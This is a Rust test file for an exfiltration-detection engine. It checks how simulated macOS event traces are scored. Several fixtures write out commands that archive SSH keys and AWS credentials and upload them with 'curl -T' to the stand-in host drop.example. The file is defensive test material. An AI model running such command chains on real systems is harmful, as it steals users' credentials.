//! Cases worked out by hand from docs/semantics.md, term by term. Weights are those of the built-in
//! content: SSH keys 95 read and copied, AWS credentials 90, Chrome cookies 90, shell history 55,
//! the login keychain 40 read and 95 copied, an archive of plain files 10.

mod common;

use common::{categories, chain, found, found_in_session, links, only, terms};
use tollgate_model::{Confidence, Encryption, Level, Mode, Rung, Timestamp};

const DAY: i64 = 20_513 * 86_400;

fn at(hour: i64, minute: i64, second: i64) -> Timestamp {
    Timestamp::from_secs(DAY + hour * 3_600 + minute * 60 + second)
}

#[test]
fn redirection_then_archive_then_upload() {
    // The shell opens /tmp/a before cat starts: a redirection (E1, E2). cat reads key and AWS file
    // (C4: 95, 90); the redirection takes both (E4: kind copied). ditto packs /tmp/a: two categories,
    // so w = min(100, 95 + 5) = 100 (E5). curl reads the archive (C4) and sends it.
    //   material:weight    100 x 50 / 100              = 50
    //   material:breadth   ssh-keys, cloud-credentials =  5
    //   material:archive                               = 10
    //   proximity          09:00:08 to 09:00:09        = 10
    //   process            curl, then zsh have no reputation; Terminal stops: no subject, tool = 5
    //   destination        server name and DNS         =  0
    //   volume:direction   90000 >= 65536, 90000 >= 4 x 900 = 5; no size match: 90000 is not
    //                      within 970..1100 or 1330..1450 per mille of 70000 (it is 1285)
    //   sum 85
    let findings = found_in_session(
        "09:00:00 fork 400 -> 401
09:00:00.1 create 401 /tmp/a
09:00:00.2 exec 401 platform com.apple.cat /bin/cat cwd=/Users/ana : cat .ssh/id_rsa .aws/credentials
09:00:01 read 401 /Users/ana/.ssh/id_rsa size=2000
09:00:02 read 401 /Users/ana/.aws/credentials size=300
09:00:03 close 401 /tmp/a modified size=2300
09:00:03 exit 401
09:00:04 fork 400 -> 402
09:00:04.1 exec 402 platform com.apple.ditto /usr/bin/ditto cwd=/tmp : ditto -c -k a b.zip
09:00:05 read 402 /tmp/a size=2300
09:00:05 create 402 /tmp/b.zip
09:00:06 close 402 /tmp/b.zip modified size=70000
09:00:06 exit 402
09:00:07 fork 400 -> 403
09:00:07.1 exec 403 platform com.apple.curl /usr/bin/curl cwd=/tmp : curl -T b.zip https://drop.example/
09:00:08 read 403 /tmp/b.zip size=70000
09:00:09 dns 10.0.0.5 drop.example -> 203.0.113.9
09:00:09 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s out=90000 in=900 service=ssl
09:00:09 tls C1 sni=drop.example established
09:00:12 exit 403",
    );
    let chain = chain(&findings);
    assert_eq!(
        terms(chain),
        "material:weight=50 material:breadth=5 material:archive=10 proximity:staging=10 process:tool=5 volume:direction=5"
    );
    let finding = only(&findings);
    assert_eq!((finding.score, finding.level, finding.confidence), (85, Level::Critical, Confidence::High));
    assert_eq!(categories(finding), "cloud-credentials ssh-keys");
    assert_eq!((links(chain).as_str(), chain.mode, chain.attribution), ("L1 L2 L3", Mode::Full, Some(Rung::Named)));
    assert_eq!((finding.first_seen, finding.last_seen), (at(9, 0, 1), at(9, 0, 11)));
}

#[test]
fn renamed_and_copied_forty_minutes_later() {
    // tar packs one key: archive role; own tag 95, archive 95 (one category: no bonus). A copy keeps
    // kind and weight (E8). curl reads it 40 minutes later, at once before the flow.
    //   weight 47, archive 10, proximity 10, tool 5, unproven 5 (DNS only; no handshake) = 77
    let findings = found_in_session(
        "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.bsdtar /usr/bin/tar cwd=/Users/ana : tar -cf /tmp/x.tar .ssh/id_rsa
09:00:01 create 401 /tmp/x.tar
09:00:01.5 read 401 /Users/ana/.ssh/id_rsa
09:00:02 close 401 /tmp/x.tar modified
09:00:02 exit 401
09:10:00 fork 400 -> 402
09:10:00.1 exec 402 platform com.apple.mv /bin/mv : mv /tmp/x.tar /tmp/photo.jpg
09:10:01 rename 402 /tmp/x.tar -> /tmp/photo.jpg
09:10:01 exit 402
09:20:00 fork 400 -> 403
09:20:00.1 exec 403 platform com.apple.cp /bin/cp : cp /tmp/photo.jpg /tmp/y.jpg
09:20:01 copy 403 /tmp/photo.jpg -> /tmp/y.jpg
09:20:01 exit 403
09:40:00 fork 400 -> 404
09:40:00.1 exec 404 platform com.apple.curl /usr/bin/curl : curl -T /tmp/y.jpg https://drop.example/
09:40:01 read 404 /tmp/y.jpg
09:40:02 dns 10.0.0.5 drop.example -> 203.0.113.9
09:40:02 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s
09:40:05 exit 404",
    );
    let chain = chain(&findings);
    assert_eq!(terms(chain), "material:weight=47 material:archive=10 proximity:staging=10 process:tool=5 destination:unproven=5");
    assert_eq!((chain.score, chain.encryption, chain.confidence), (77, Some(Encryption::Port), Confidence::High));
    assert_eq!(chain.destination.as_ref().unwrap().name.raw(), "drop.example");
}

#[test]
fn one_process_becomes_the_sender() {
    // `sh -c 'tar ..; exec curl ..'` in one pid: the tag stays with the instance across exec (L1, B3).
    // curl reads the archive too (L3). Started below launchd by a script without reputation.
    //   weight 47, archive 10 (the file's tag), proximity 10, tool 5, unproven 5 = 77
    let findings = found_in_session(
        "09:00:00 fork 700 -> 401
09:00:00.1 exec 401 platform com.apple.bsdtar /usr/bin/tar : tar -czf /tmp/x.tgz /Users/ana/.ssh/id_rsa
09:00:01 create 401 /tmp/x.tgz
09:00:01.5 read 401 /Users/ana/.ssh/id_rsa
09:00:02 close 401 /tmp/x.tgz modified
09:00:03 exec 401 platform com.apple.curl /usr/bin/curl : curl -T /tmp/x.tgz https://drop.example/
09:00:04 read 401 /tmp/x.tgz
09:00:04 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s
09:00:04 tls C1 sni=drop.example",
    );
    let chain = chain(&findings);
    assert_eq!(terms(chain), "material:weight=47 material:archive=10 proximity:staging=10 process:tool=5 destination:unproven=5");
    assert_eq!((chain.score, chain.confidence, links(chain).as_str()), (77, Confidence::High, "L1 L2 L3"));
}

const IMPLANT: &str = "
process agent pid=500 parent=1 adhoc updater /Users/ana/Library/Caches/updater
08:59:00 connect agent tcp 10.0.0.5:50000 -> 203.0.113.9:443
";

#[test]
fn a_flow_that_was_open_before_the_read() {
    // The flow lasts from 08:59 to 09:30, the read is at 09:10: acquired <= end, until >= start (F6).
    // Latest acquired is after start: 0 s (G proximity).
    //   weight 47, proximity 10, signature 10, place 10 (below ~), unproven 5 = 82
    // HIGH: s 3, exact, full; acquired is not after the end.
    let findings = found(&format!(
        "{IMPLANT}09:10:00 read agent /Users/ana/.ssh/id_rsa
08:59:00 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 31m
08:59:00 tls C1"
    ));
    let chain = chain(&findings);
    assert_eq!(terms(chain), "material:weight=47 proximity:staging=10 process:signature=10 process:place=10 destination:unproven=5");
    assert_eq!((chain.score, chain.confidence, chain.attribution), (82, Confidence::High, Some(Rung::Exact)));
    assert_eq!(chain.destination.as_ref().unwrap().name.raw(), "203.0.113.9");
}

#[test]
fn a_flow_that_ended_before_the_read() {
    // End 09:00:00; e = 120 s + 1 us. Read 120 s later counts, one step less sure; 121 s does not.
    let trace = |second: &str| {
        found(&format!(
            "{IMPLANT}09:02:{second} read agent /Users/ana/.ssh/id_rsa
08:59:00 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 1m
08:59:00 tls C1"
        ))
    };
    assert_eq!(chain(&trace("00")).confidence, Confidence::Medium);
    // The host rung is for flows without an owner: nothing is left. Within an hour there is a network
    // leg, so it is no observation either.
    assert!(trace("01").is_empty());
}

#[test]
fn plain_archive_upload_is_low_at_most() {
    // A build packs a file of no interest, as notarisation does: archive tag of weight 10.
    //   weight 5; no category: no breadth, no archive term; 10 < 20: no proximity; tool 5;
    //   size match 10 (70000 of 70000); direction 5 (70000 >= 65536 and >= 4 x 900); proven
    //   sum 25: LOW
    let findings = found_in_session(
        "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.ditto /usr/bin/ditto : ditto -c -k /opt/app/App.app /tmp/App.zip
09:00:01 read 401 /opt/app/App.app
09:00:01 create 401 /tmp/App.zip
09:00:02 close 401 /tmp/App.zip modified size=70000
09:00:02 exit 401
09:00:03 fork 400 -> 402
09:00:03.1 exec 402 platform com.apple.curl /usr/bin/curl : curl -T /tmp/App.zip https://notary.example/
09:00:04 read 402 /tmp/App.zip size=70000
09:00:05 dns 10.0.0.5 notary.example -> 203.0.113.9
09:00:05 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s out=70000 in=900
09:00:05 tls C1 sni=notary.example validated=yes
09:00:09 exit 402",
    );
    let chain = chain(&findings);
    assert_eq!(terms(chain), "material:weight=5 process:tool=5 volume:size-match=10 volume:direction=5");
    assert_eq!(only(&findings).level, Level::Low);
    assert_eq!(categories(only(&findings)), "");
}

#[test]
fn a_browser_reads_its_own_cookies() {
    let findings = found(
        "process chrome pid=500 parent=1 dev EQHXZ8M8AV com.google.Chrome \"/Applications/Google Chrome.app/Contents/MacOS/Google Chrome\"
09:00:00 read chrome \"/Users/ana/Library/Application Support/Google/Chrome/Default/Cookies\" size=40000
09:00:01 connect chrome tcp 10.0.0.5:50000 -> 203.0.113.9:443
09:00:01 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s out=900000 in=900
09:00:01 tls C1 sni=drop.example",
    );
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn a_reused_pid_is_another_process() {
    // With pids alone (B2): exit unbinds 401, the next fork is another life. Its curl is owner by
    // name and holds nothing; the reader's tag of 09:00:01 is a session tag of zsh only for the
    // reader's ancestors. Both are below launchd, which stops lineage and session (B4).
    let trace = |exit: &str| {
        found(&format!(
            "source versions=no
process launchd pid=1 platform com.apple.xpc.launchd /sbin/launchd
09:00:00 fork 1 -> 401
09:00:00.1 exec 401 platform com.apple.cat /bin/cat : cat
09:00:01 read 401 /Users/ana/.ssh/id_rsa
{exit}
09:00:03.1 exec 401 platform com.apple.curl /usr/bin/curl : curl -d x https://drop.example/
09:00:05 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s
09:00:05 tls C1 sni=drop.example"
        ))
    };
    assert!(trace("09:00:02 exit 401\n09:00:03 fork 1 -> 401").is_empty());
    // The same without the exit and the fork is one life: weight 47, near 10, tool 5, unproven 5.
    assert_eq!(only(&trace("")).score, 67);
}

#[test]
fn arguments_alone() {
    // No file events: the operand stands for the read when curl exits (D3), dormant for nobody.
    //   weight 47 (95); acquired at exit 09:00:04, after the start: 0 s, 10; tool 5; unproven 5 = 67
    // MEDIUM: argv-only.
    let findings = found_in_session(
        "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.curl /usr/bin/curl cwd=/Users/ana : curl -T .ssh/id_rsa https://drop.example/
09:00:01 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 4s
09:00:01 tls C1 sni=drop.example
09:00:04 exit 401",
    );
    let chain = chain(&findings);
    assert_eq!(terms(chain), "material:weight=47 proximity:staging=10 process:tool=5 destination:unproven=5");
    assert_eq!((chain.mode, chain.confidence, links(chain).as_str()), (Mode::ArgvOnly, Confidence::Medium, "L1 L2 L7"));
}

#[test]
fn declared_by_arguments_where_nothing_saw_the_network() {
    // F9: egress over [exec, exit], bytes unknown; the same score, MEDIUM.
    let findings = found_in_session(
        "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.curl /usr/bin/curl cwd=/Users/ana : curl -T .ssh/id_rsa https://drop.example/
09:00:01 read 401 /Users/ana/.ssh/id_rsa size=2000
09:00:04 exit 401",
    );
    let chain = chain(&findings);
    assert_eq!(terms(chain), "material:weight=47 proximity:staging=10 process:tool=5 destination:unproven=5");
    assert_eq!((chain.mode, chain.confidence, chain.flows), (Mode::NoNetwork, Confidence::Medium, 0));
    assert_eq!((chain.attribution, chain.encryption), (None, Some(Encryption::Declared)));
    assert_eq!(only(&findings).last_seen, at(9, 0, 4));
}

#[test]
fn network_alone_is_an_observation() {
    // No endpoint record: unproven 5, self-signed 10, port 5 (4444), direction 5 = 25, LOW, H6.
    let findings = found(
        "09:00:01 flow C1 10.0.0.5:50000 -> 203.0.113.9:4444 tcp for 4s out=80000 in=10
09:00:01 tls C1 sni=drop.example cert=F1
09:00:01 cert F1 subject=CN=x issuer=CN=x
09:00:02 flow C2 10.0.0.5:50001 -> 203.0.113.9:4444 tcp for 4s out=10 in=10
09:00:02 tls C2 sni=drop.example cert=F1",
    );
    let chain = chain(&findings);
    assert_eq!(terms(chain), "destination:unproven=5 destination:self-signed=10 destination:port=5 volume:direction=5");
    assert_eq!((chain.mode, chain.flows, chain.confidence), (Mode::NetworkOnly, 2, Confidence::Low));
    assert_eq!(chain.destination.as_ref().unwrap().bytes_out, Some(80_010));
    // With any endpoint record of that hour, it is none.
    assert!(found("process p pid=9\n09:30:00 exit p\n09:00:01 flow C1 10.0.0.5:50000 -> 203.0.113.9:4444 tcp out=80000 in=10\n09:00:01 tls C1 sni=drop.example").is_empty());
}

#[test]
fn host_rung_and_prior_contact() {
    // An implant reads, and nothing ties the flow to it: host rung, s = 1.
    //   weight 47, proximity 10, unproven 5, user -20 = 42; ceiling 39: -3
    let trace = |before: &str, answer: &str| {
        found(&format!(
            "process agent pid=500 parent=1 adhoc updater /Users/ana/Library/Caches/updater
{before}
09:00:00 read agent /Users/ana/.ssh/id_rsa
09:00:05 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s
09:00:05 tls C1 sni=drop.example
{answer}"
        ))
    };
    let new = trace("", "");
    let chain = chain(&new);
    assert_eq!(terms(chain), "material:weight=47 proximity:staging=10 destination:unproven=5 link:user=-20 ceiling:l5-only=-3");
    assert_eq!((chain.score, chain.confidence, chain.attribution), (39, Confidence::Low, Some(Rung::Host)));
    assert_eq!(links(chain), "L1 L5");
    // Contacted within the day before, and both are proven: no chain. Longer ago, or where a server name is all that is known: as new.
    let flow =
        |day: &str, time: &str| format!("{day}T{time} flow C0 10.0.0.5:50000 -> 203.0.113.9:443 tcp\n{day}T{time} tls C0 sni=drop.example");
    let dns = |day: &str, time: &str| format!("{day}T{time} dns 10.0.0.5 drop.example -> 203.0.113.9 ttl=60");
    let (before, now) = ("2026-02-28", "2026-03-01");
    let contact = |time: &str| format!("{}\n{}", flow(before, time), dns(before, time));
    let answer = dns(now, "09:00:05");
    assert!(trace(&contact("09:00:01"), &answer).is_empty());
    // Then the old flow has no endpoint leg; its points are no finding.
    assert_eq!(only(&trace(&contact("08:59:59"), &answer)).score, 37);
    assert_eq!(only(&trace(&contact("09:00:01"), "")).score, 39);
    assert_eq!(only(&trace(&flow(before, "09:00:01"), &answer)).score, 37);
}

#[test]
fn a_gap_waives_a_ceiling() {
    // The same, with a loss between staging and egress: no user term, ceiling 59 instead of 39.
    //   weight 47, proximity 10, unproven 5 = 62; ceiling -3 = 59
    let findings = found(
        "process agent pid=500 parent=1 adhoc updater /Users/ana/Library/Caches/updater
09:00:00 read agent /Users/ana/.ssh/id_rsa
gap 09:00:01 - 09:00:03 lost 12
09:00:05 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s
09:00:05 tls C1 sni=drop.example",
    );
    let chain = chain(&findings);
    assert_eq!(terms(chain), "material:weight=47 proximity:staging=10 destination:unproven=5 ceiling:l5-only=-3");
    assert_eq!(chain.score, 59);
}

#[test]
fn a_decoy_hides_nobody() {
    // A curl that names the host owns the flow (F5) and holds nothing; the sender is found by the
    // size of the file it read: 400000 of 400000.
    //   weight 47, proximity 10, signature 10, place 10, unproven 5, size match 10 = 92
    let findings = found(
        "process agent pid=500 parent=1 adhoc updater /Users/ana/Library/Caches/updater
process launchd pid=1 platform com.apple.xpc.launchd /sbin/launchd
09:00:00 fork launchd -> 600
09:00:00.1 exec 600 platform com.apple.curl /usr/bin/curl : curl https://drop.example/status
09:00:00 read agent /Users/ana/.ssh/id_rsa size=400000
09:00:05 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 2s out=400000
09:00:05 tls C1 sni=drop.example",
    );
    let chain = chain(&findings);
    assert_eq!(
        terms(chain),
        "material:weight=47 proximity:staging=10 process:signature=10 process:place=10 destination:unproven=5 \
         volume:size-match=10"
    );
    assert_eq!((chain.score, chain.attribution, chain.confidence), (92, Some(Rung::Size), Confidence::Medium));
}
